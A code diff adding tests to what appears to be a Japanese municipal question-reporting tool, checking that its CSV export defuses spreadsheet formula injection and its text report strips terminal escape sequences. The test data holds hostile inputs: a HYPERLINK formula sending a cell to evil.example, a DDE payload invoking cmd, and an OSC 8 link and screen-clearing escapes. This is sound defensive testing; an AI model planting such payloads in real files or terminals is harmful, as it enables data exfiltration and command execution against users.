@@ -117,3 +117,43 @@ def test_an_unknown_group_is_an_error_that_says_what_to_use(store, capsys, monke
 def test_an_empty_store_says_so(capsys, monkeypatch):
     code, out, _ = run(capsys, monkeypatch, "report")
     assert code == 0 and "未回答の質問はありません" in out
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+def test_csv_cells_from_residents_never_start_a_formula(capsys, monkeypatch, _own_database):
+    store = open_store(f"sqlite:///{_own_database}")
+    for text in HOSTILE:
+        store.record_unanswered(text=text, normalized=text, candidates=[], kind="fallback",
+                                answer_id=None, score=5.0, resident="k1", at=NOV)
+
+    _, out, _ = run(capsys, monkeypatch, "report", "--csv")
+
+    rows = list(csv.DictReader(io.StringIO(out, newline="")))
+    examples = [row[f"example_{n}"] for row in rows for n in (1, 2, 3) if row[f"example_{n}"]]
+    assert sorted(examples) == sorted("'" + text for text in HOSTILE)  # shown as text, kept whole
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
+                   for row in csv.reader(io.StringIO(out, newline="")) for cell in row)
+
+
+def test_the_text_report_prints_no_terminal_escape_sequence(capsys, monkeypatch, _own_database):
+    store = open_store(f"sqlite:///{_own_database}")
+    link = "\x1b]8;;http://evil.example/\x1b\\住民票\x1b]8;;\x1b\\"  # OSC 8: a link showing 住民票
+    for text in (link, "\x1b[2J\x1b[H画面を消す", "改行\nして\x07ベル\x9b31mC1"):
+        store.record_unanswered(text=text, normalized=text, candidates=[], kind="fallback",
+                                answer_id=None, score=5.0, resident="k1", at=NOV)
+
+    _, out, _ = run(capsys, monkeypatch, "report")
+
+    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
+    assert "「住民票」" in out and "「画面を消す」" in out and "「改行 してベルC1」" in out
+    assert "evil.example" not in out
